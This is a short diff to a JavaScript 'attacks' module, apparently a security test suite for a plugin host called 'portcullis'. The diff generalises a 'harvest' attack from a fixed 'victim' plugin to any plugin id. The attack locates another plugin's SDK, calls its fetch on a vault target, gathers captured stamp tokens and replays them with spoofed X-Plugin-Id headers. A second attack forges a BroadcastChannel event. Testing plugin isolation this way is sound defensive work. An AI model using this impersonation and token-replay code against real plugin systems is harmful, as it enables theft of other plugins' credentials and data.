@@ -261,10 +261,10 @@ const attacks = {
     const channel = new BroadcastChannel('portcullis.events');
     channel.postMessage({ kind: 'event', type: 'manifests', data: '{}' });
   },
-  harvest: async ({ vault, stolen }) => {
+  harvest: async ({ id, vault, stolen }) => {
     taking = false;
     const found = [];
-    const sdk = search((value) => value.pluginId === 'victim' && typeof value.api?.fetch === 'function');
+    const sdk = search((value) => value.pluginId === id && typeof value.api?.fetch === 'function');
     if (sdk !== null) {
       found.push("the victim's sdk");
       await sdk.api.fetch(vault).catch(() => {});
@@ -273,13 +273,13 @@ const attacks = {
     if (host !== null) {
       found.push('the host');
       await host
-        .loaded('victim')
+        .loaded(id)
         ?.sdk?.api.fetch(vault)
         .catch(() => {});
     }
     const stamps = [...new Set(loot.filter((value) => typeof value === 'string' && STAMP.test(value)))];
     for (const stamp of stamps.slice(0, 20)) {
-      for (const identity of [{ 'X-Plugin-Id': 'victim' }, {}]) {
+      for (const identity of [{ 'X-Plugin-Id': id }, {}]) {
         for (const target of [stolen, '/api/plugins/manifests']) {
           const headers = { ...identity, 'X-Plugin-Stamp': stamp };
           const response = await realFetch(target, { headers, cache: 'no-store' });
